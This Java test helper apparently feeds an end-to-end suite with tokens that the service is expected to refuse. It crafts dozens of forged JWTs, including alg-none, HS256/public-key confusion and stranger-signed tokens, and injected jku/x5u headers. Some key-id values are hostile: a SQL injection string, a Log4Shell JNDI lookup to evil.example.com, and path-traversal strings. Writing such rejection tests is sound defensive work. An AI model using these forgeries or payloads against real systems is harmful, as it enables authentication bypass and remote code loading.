// SPDX-License-Identifier: Apache-2.0
package dev.qrtc.e2e.refusal;

import dev.qrtc.e2e.stack.RunningStack;
import dev.qrtc.testing.TestKeys;
import dev.qrtc.testing.TestTokens;
import dev.qrtc.testing.TokenDraft;
import java.nio.charset.StandardCharsets;
import java.security.Key;
import java.security.PublicKey;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.spec.SecretKeySpec;
import org.jose4j.jwk.JsonWebKey;
import org.jose4j.jwk.JsonWebKey.OutputControlLevel;
import org.jose4j.jwk.PublicJsonWebKey;

/**
 * Tokens that are almost right: the stack's own signature or key id, the right claims, and exactly one thing wrong
 * (RFC 8725, 2). By name, what is wrong with each.
 */
final class HostileTokens {
    private final TestKeys keys;
    private final TestTokens tokens;

    HostileTokens(RunningStack stack) {
        keys = stack.keys();
        tokens = stack.tokens();
    }

    /** In the place of an access token of {@code subject}. */
    Map<String, String> access(String subject, String... scopes) {
        var draft = tokens.access(subject, scopes);
        var hostile = spoilt(draft, keys.access());
        hostile.put("a client's token without subject", draft.claim("sub", null).sign());
        hostile.put("it has expired", draft.claim("exp", past()).sign());
        hostile.put("it never expires", draft.claim("exp", null).sign());
        hostile.put("it is not valid yet", draft.claim("nbf", past() + 7_200).sign());
        hostile.put(
                "a peer token",
                tokens.peer(subject, "A".repeat(22), "presenter", null).sign());
        hostile.put("a pairing token", tokens.pairing("A".repeat(22), 1).sign());
        hostile.put("signed by the peer key", draft.resignedWith(keys.peer()).sign());
        return hostile;
    }

    /** In the place of the presenter's peer token. */
    Map<String, String> peer(String subject, String pairing) {
        var draft = tokens.peer(subject, pairing, "presenter", null);
        var hostile = spoilt(draft, keys.peer());
        hostile.put("it has expired", draft.claim("exp", past()).sign());
        hostile.put("it never expires", draft.claim("exp", null).sign());
        hostile.put("no pairing in it", draft.claim("pid", null).sign());
        hostile.put("no role in it", draft.claim("role", null).sign());
        hostile.put("a role that there is not", draft.claim("role", "admin").sign());
        hostile.put("a scanner without a claim", draft.claim("role", "scanner").sign());
        hostile.put("a pairing token", tokens.pairing(pairing, 1).sign());
        hostile.put(
                "signed by the access key", draft.resignedWith(keys.access()).sign());
        return hostile;
    }

    /** In the place of the first pairing token of {@code pairing}. */
    Map<String, String> pairing(String pairing) {
        var draft = tokens.pairing(pairing, 1);
        var hostile = spoilt(draft, keys.pairing());
        hostile.put("no id in it", draft.claim("jti", null).sign());
        hostile.put("an id that is none", draft.claim("jti", "../../" + pairing).sign());
        hostile.put(
                "an access token", tokens.access("user:alice", "pairing:scan").sign());
        hostile.put(
                "a peer token",
                tokens.peer("user:alice", pairing, "presenter", null).sign());
        hostile.put("signed by the peer key", draft.resignedWith(keys.peer()).sign());
        return hostile;
    }

    // What is wrong with a token of any kind.
    private Map<String, String> spoilt(TokenDraft draft, JsonWebKey key) {
        var stranger = TestKeys.generate();
        var strangers = List.of(stranger.pairing(), stranger.peer(), stranger.access()).stream()
                .filter(other -> other.getAlgorithm().equals(key.getAlgorithm()))
                .findFirst()
                .orElseThrow();
        var hostile = new LinkedHashMap<String, String>();
        hostile.put("wrong aud", draft.claim("aud", "somebody-else").sign());
        hostile.put("no aud", draft.claim("aud", null).sign());
        hostile.put("wrong typ", draft.header("typ", "JWT").sign());
        hostile.put("no typ", draft.header("typ", null).sign());
        hostile.put(
                "another issuer", draft.claim("iss", "https://evil.example.com").sign());
        hostile.put("alg none", draft.unsecured());
        hostile.put("alg none with the old signature", draft.unsecured() + last(draft.sign()));
        hostile.put(
                "signed by a stranger under our key id",
                draft.forgedWith(signing(strangers)).sign());
        hostile.put("signed by a stranger", draft.resignedWith(strangers).sign());
        hostile.put(
                "the stranger's key in the header",
                draft.header("jwk", ((JsonWebKey) TestKeys.ec("x", "peer")).toParams(OutputControlLevel.PUBLIC_ONLY))
                        .sign());
        hostile.put(
                "an address of keys in the header",
                draft.header("jku", "https://evil.example.com/jwks").sign());
        hostile.put(
                "an unknown extension is critical",
                draft.header("crit", List.of("x")).header("x", 1).sign());
        hostile.put("no key id", draft.header("kid", null).sign());
        hostile.put(
                "a key id that is a path",
                draft.header("kid", "../../../../dev/null").sign());
        List.of(
                        "' OR 1=1 --",
                        "${jndi:ldap://evil.example.com/a}",
                        "https://evil.example.com/key",
                        key.getKeyId() + " ")
                .forEach(id ->
                        hostile.put("the key id " + id, draft.header("kid", id).sign()));
        hostile.put(
                "a certificate's address in the header",
                draft.header("x5u", "https://evil.example.com/cert.pem").sign());
        hostile.put(
                "a certificate in the header",
                draft.header("x5c", List.of("MIIB")).sign());
        hostile.putAll(HostilePayloads.of(draft.sign(), key));
        hostile.put("another signature", changedSignature(draft.sign()));
        hostile.put("other claims under the signature", changedClaims(draft));
        confusedWith(draft, hostile);
        return hostile;
    }

    // HS256 with the bytes of each public key, as anybody can read them, for the secret (RFC 8725, 2.1).
    private void confusedWith(TokenDraft draft, Map<String, String> hostile) {
        for (var pair : List.of(keys.peer(), keys.access())) {
            var hs256 = draft.header("alg", "HS256").header("kid", pair.getKeyId());
            encodings(pair)
                    .forEach((name, bytes) -> hostile.put(
                            "HS256 with " + name + " of " + pair.getOtherParameterValue("qrtc:kind", String.class)
                                    + "'s public key",
                            hs256.forgedWith(new SecretKeySpec(bytes, "HmacSHA256"))
                                    .sign()));
        }
    }

    private static Map<String, byte[]> encodings(PublicJsonWebKey pair) {
        PublicKey key = pair.getPublicKey();
        var pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(key.getEncoded())
                + "\n-----END PUBLIC KEY-----\n";
        return Map.of(
                "the DER",
                key.getEncoded(),
                "the PEM",
                pem.getBytes(StandardCharsets.US_ASCII),
                "the JWK",
                pair.toJson(OutputControlLevel.PUBLIC_ONLY).getBytes(StandardCharsets.US_ASCII));
    }

    private static Key signing(JsonWebKey key) {
        return key instanceof PublicJsonWebKey pair ? pair.getPrivateKey() : key.getKey();
    }

    private static String changedSignature(String token) {
        var signature = Base64.getUrlDecoder().decode(last(token));
        signature[signature.length / 2] ^= 1;
        return token.substring(0, token.lastIndexOf('.') + 1)
                + Base64.getUrlEncoder().withoutPadding().encodeToString(signature);
    }

    private static String changedClaims(TokenDraft draft) {
        var parts = draft.sign().split("\\.", -1);
        var other = draft.claim("sub", "user:mallory")
                .claim("jti", "B".repeat(22) + ".1")
                .sign()
                .split("\\.", -1);
        return String.join(".", Arrays.asList(parts[0], other[1], parts[2]));
    }

    private static String last(String token) {
        return token.substring(token.lastIndexOf('.') + 1);
    }

    private static long past() {
        return System.currentTimeMillis() / 1000 - 3_600;
    }
}
